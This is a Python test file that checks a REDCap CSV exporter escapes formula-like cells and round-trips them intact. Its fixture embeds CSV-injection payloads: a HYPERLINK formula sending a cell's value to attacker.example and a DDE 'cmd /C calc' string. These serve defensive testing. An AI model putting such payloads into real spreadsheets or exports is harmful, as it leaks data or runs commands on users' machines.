"""The REDCap data dictionary goes through the one CSV writer: no cell runs as a formula,
and text starting with a formula character survives the round trip."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from instruments.csv_cells import FORMULA_START
from instruments.definition import InstrumentDefinition
from instruments.redcap import REDCAP_COLUMNS, from_redcap_csv, to_redcap_csv

NAME, SECTION, LABEL, CHOICES = (REDCAP_COLUMNS[i] for i in (0, 2, 4, 5))
ANNOTATION = REDCAP_COLUMNS[17]
HYPERLINK = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'


@pytest.fixture
def hostile(small_mapping: dict[str, Any], make) -> InstrumentDefinition:
    """The small instrument with formula text in every kind of cell the export writes."""
    small_mapping["intro"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    construct = small_mapping["constructs"][0]
    construct["name"] = "+Alpha"
    items = construct["subconstructs"][0]["items"]
    items[0]["text"] = HYPERLINK
    items[1]["text"] = "-I rarely write."
    items[2]["text"] = "'=already quoted"
    # A first value below zero: the choices cells of that scale start with "-".
    for option in small_mapping["response_scales"]["often3"]:
        option["value"] -= 1
    small_mapping["attention_checks"][0]["expected"] = 1
    small_mapping["attention_checks"][1]["text"] = "=1+1 choose 'Disagree'."
    return make(small_mapping)


def raw_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def by_name(text: str) -> dict[str, dict[str, str]]:
    header, *records = raw_cells(text)
    return {record[0]: dict(zip(header, record, strict=True)) for record in records}


def test_no_cell_of_the_export_starts_a_formula(hostile):
    text = to_redcap_csv(hostile)
    cells = [cell for record in raw_cells(text) for cell in record]
    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []


def test_label_section_choices_and_annotation_are_escaped(hostile):
    rows = by_name(to_redcap_csv(hostile))
    assert rows["aa_x_1"][LABEL] == "'" + HYPERLINK
    assert rows["aa_x_1"][SECTION] == "'+Alpha"
    assert rows["aa_x_2"][LABEL] == "'-I rarely write."
    assert rows["aa_x_3"][LABEL] == "''=already quoted"
    assert rows["bb_z_1"][CHOICES] == "'-1, Never | 0, Sometimes, or often | 1, Always"
    assert rows["attn_a"][LABEL] == "'=1+1 choose 'Disagree'."
    assert rows["instrument_info"][LABEL] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["aa_x_1"][ANNOTATION].startswith("'@IEMDP-CONSTRUCT=AA ")
    assert rows["record_id"][LABEL] == "Record ID"


@pytest.mark.parametrize("bom", [False, True])
def test_round_trip_keeps_the_content_hash(hostile, bom):
    again = from_redcap_csv(to_redcap_csv(hostile, bom=bom).encode("utf-8"))
    assert again == hostile
    assert again.content_hash == hostile.content_hash
    assert again.constructs[0].subconstructs[0].items[0].text == HYPERLINK


def test_a_file_saved_by_a_spreadsheet_without_the_apostrophes_reads_the_same(hostile):
    # A spreadsheet shows "'=x" as the text "=x" and saves it so.
    records = raw_cells(to_redcap_csv(hostile))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for record in records:
        writer.writerow([cell.removeprefix("'") for cell in record])
    again = from_redcap_csv(out.getvalue())
    items = again.constructs[0].subconstructs[0].items
    assert items[0].text == HYPERLINK and items[1].text == "-I rarely write."
    assert again.intro == hostile.intro
